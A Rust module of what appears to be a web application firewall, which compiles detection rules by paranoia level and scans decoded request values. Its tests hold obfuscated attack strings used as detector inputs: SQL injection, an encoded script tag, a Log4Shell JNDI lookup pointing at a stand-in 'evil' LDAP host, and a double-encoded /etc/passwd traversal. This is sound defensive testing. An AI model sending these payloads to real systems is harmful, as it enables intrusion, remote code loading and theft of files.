//! Compiled rule sets and the scan of one value.
//!
//! The regex rules of each paranoia level are compiled once per process into
//! one [`RegexSet`] (a single pass over the text answers every rule); the
//! hand-written checks run only on text that contains a URL.

use std::sync::OnceLock;

use regex::RegexSet;

use super::decode;
use super::rules::{Matcher, RULES, Rule};
use super::{Hit, Location};

/// A hand-written rule check on decoded text.
type Check = fn(&str) -> bool;

/// The rules of one paranoia level, compiled.
#[derive(Debug)]
pub(crate) struct RuleSet {
    set: RegexSet,
    regex_rules: Vec<&'static Rule>,
    checks: Vec<(&'static Rule, Check)>,
}

impl RuleSet {
    fn compile(paranoia: u8) -> Self {
        let active = RULES.iter().filter(|r| r.paranoia <= paranoia);
        let mut regex_rules = Vec::new();
        let mut patterns = Vec::new();
        let mut checks = Vec::new();
        for rule in active {
            match rule.matcher {
                Matcher::Regex(p) => {
                    regex_rules.push(rule);
                    patterns.push(p);
                }
                Matcher::Check(f) => checks.push((rule, f)),
            }
        }
        let set = RegexSet::new(patterns).expect("built-in WAF rules compile (tested)");
        Self {
            set,
            regex_rules,
            checks,
        }
    }

    /// The compiled rules for a paranoia level (1-4), built on first use.
    pub(crate) fn for_level(paranoia: u8) -> &'static RuleSet {
        static SETS: [OnceLock<RuleSet>; 4] = [
            OnceLock::new(),
            OnceLock::new(),
            OnceLock::new(),
            OnceLock::new(),
        ];
        let level = paranoia.clamp(1, 4);
        SETS[usize::from(level - 1)].get_or_init(|| RuleSet::compile(level))
    }
}

/// The findings of one request so far.
#[derive(Debug)]
pub(crate) struct Scan<'a> {
    rules: &'static RuleSet,
    exclude: &'a [u32],
    pub(crate) hits: Vec<Hit>,
    pub(crate) score: u32,
}

impl<'a> Scan<'a> {
    pub(crate) fn new(rules: &'static RuleSet, exclude: &'a [u32]) -> Self {
        Self {
            rules,
            exclude,
            hits: Vec::new(),
            score: 0,
        }
    }

    /// Decodes `raw` and runs every rule on each view of it. `plus` decodes
    /// `+` as a space (query strings and forms).
    pub(crate) fn value(&mut self, raw: &str, location: Location, plus: bool) {
        if raw.is_empty() {
            return;
        }
        let decoded = decode::percent(raw, plus);
        let folded = decode::fold(&decoded);
        let base: &str = &folded;
        self.view(base, location);
        for view in [decode::html(base), decode::sql(base), decode::lookups(base)] {
            if let std::borrow::Cow::Owned(v) = view {
                self.view(&v, location);
            }
        }
    }

    fn view(&mut self, text: &str, location: Location) {
        // Most values match nothing: the cheaper yes/no question first.
        if self.rules.set.is_match(text) {
            for i in self.rules.set.matches(text).iter() {
                self.record(self.rules.regex_rules[i], location);
            }
        }
        if text.contains("://") {
            for (rule, check) in &self.rules.checks {
                if check(text) {
                    self.record(rule, location);
                }
            }
        }
    }

    fn record(&mut self, rule: &'static Rule, location: Location) {
        if self.exclude.contains(&rule.id) || self.hits.iter().any(|h| h.rule == rule.id) {
            return;
        }
        self.score += rule.score;
        self.hits.push(Hit {
            rule: rule.id,
            category: rule.category,
            location,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_level_compiles() {
        for level in 1..=4 {
            let set = RuleSet::for_level(level);
            assert!(!set.regex_rules.is_empty());
        }
    }

    fn score(text: &str, level: u8) -> (u32, Vec<u32>) {
        let mut scan = Scan::new(RuleSet::for_level(level), &[]);
        scan.value(text, Location::Query, true);
        (scan.score, scan.hits.iter().map(|h| h.rule).collect())
    }

    #[test]
    fn views_catch_obfuscation() {
        assert!(score("1'/**/UNION/**/SELECT/**/password", 1).0 >= 5);
        assert!(score("&lt;script&gt;alert(1)&lt;/script&gt;", 1).0 >= 5);
        assert!(score("${${lower:j}ndi:ldap://evil/a}", 1).0 >= 5);
        assert!(score("%252e%252e%252f%252e%252e%252fetc%252fpasswd", 1).0 >= 5);
    }

    #[test]
    fn prose_passes() {
        for s in [
            "O'Reilly's book isn't here",
            "select a date from the calendar and update your order",
            "jane.doe+news@example.com",
            "Tom & Jerry; cat lovers unite",
        ] {
            assert_eq!(score(s, 1), (0, vec![]), "{s}");
        }
    }

    #[test]
    fn exclusions_remove_rules() {
        let mut scan = Scan::new(RuleSet::for_level(1), &[941100]);
        scan.value("<script>", Location::Query, false);
        assert!(scan.hits.iter().all(|h| h.rule != 941100));
    }
}
